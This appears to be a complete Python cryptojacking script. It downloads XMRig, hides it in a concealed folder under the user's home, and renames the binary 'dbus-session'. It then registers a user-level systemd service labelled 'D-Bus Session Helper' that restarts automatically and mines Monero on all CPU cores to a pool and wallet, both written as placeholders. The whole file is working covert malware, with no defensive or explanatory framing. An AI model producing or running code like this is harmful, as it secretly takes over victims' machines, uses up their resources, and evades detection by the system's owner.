# Downloads and unpacks XMRig, installs it as a systemd --user service disguised as a dbus helper, and starts mining.
import os
import subprocess
import tarfile
import urllib.request
from pathlib import Path

POOL = "pool.minexmr-mirror.example.com:443"
WALLET = "4FAKEmoneroWALLETaddressFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE"
base = Path.home() / ".local/share/.dbus-cache"
base.mkdir(parents=True, exist_ok=True)

tgz = base / "x.tgz"
urllib.request.urlretrieve("https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz", tgz)
with tarfile.open(tgz) as t:
    t.extractall(base)
binary = next(base.rglob("xmrig"))
binary.rename(base / "dbus-session")

unit = Path.home() / ".config/systemd/user/dbus-session.service"
unit.parent.mkdir(parents=True, exist_ok=True)
unit.write_text(f"""[Unit]
Description=D-Bus Session Helper

[Service]
ExecStart={base}/dbus-session -o {POOL} -u {WALLET} --tls -t {os.cpu_count()} --donate-level 0
Restart=always
Nice=19

[Install]
WantedBy=default.target
""")
subprocess.run(["systemctl", "--user", "daemon-reload"])
subprocess.run(["systemctl", "--user", "enable", "--now", "dbus-session.service"])
